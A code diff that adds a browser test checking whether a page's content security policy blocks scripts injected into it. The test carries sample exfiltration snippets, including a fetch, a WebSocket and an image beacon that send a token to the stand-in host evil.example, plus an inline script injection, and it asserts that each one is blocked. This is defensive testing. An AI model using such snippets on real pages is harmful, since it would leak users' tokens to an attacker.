@@ -317,6 +317,31 @@ def play_copies(play: Play) -> Found:
     return {"published": published, "there": there, "faults": watched.faults}
 
 
+def play_policy(play: Play) -> Found:
+    """What a script that got into the page could not do."""
+    watched = play.watched()
+    page = watched.page(play.link)
+    expect(thread(page, "Why 30?")).to_be_visible()
+    tries = {
+        "fetch": "fetch('https://evil.example/?token=t')",
+        "other repository": f"fetch('{play.raw.replace('127.0.0.1', 'localhost')}/evil')",
+        "socket": "new Promise((done, fail) => { const one = new WebSocket('wss://evil.example');"
+        " one.onopen = done; one.onerror = fail; })",
+        "picture": "new Promise((done, fail) => { const one = new Image(); one.onload = done;"
+        " one.onerror = fail; one.src = 'https://evil.example/t.png'; })",
+        "inline": "new Promise((done, fail) => { const one = document.createElement('script');"
+        " one.textContent = 'globalThis.ran = true'; document.head.append(one);"
+        " globalThis.ran ? done() : fail(); })",
+    }
+    blocked = {
+        name: page.evaluate(f"({script}).then(() => false, () => true)")
+        for name, script in tries.items()
+    }
+    violations = sum(fault.startswith("VIOLATION") for fault in watched.faults)
+    watched.context.close()
+    return {"blocked": blocked, "violations": violations, "faults": []}
+
+
 def play_private(play: Play) -> Found:
     """A private repository: a token is asked for, reads the plan, and writes to its branch."""
     stage, site = play.stage, play.stage.folder / "private"
@@ -432,6 +457,7 @@ PLAYS: dict[str, Callable[[Play], Found]] = {
     "unpublished": play_unpublished,
     "by hand": play_by_hand,
     "copies": play_copies,
+    "policy": play_policy,
     "private": play_private,
     "sights": play_sights,
 }
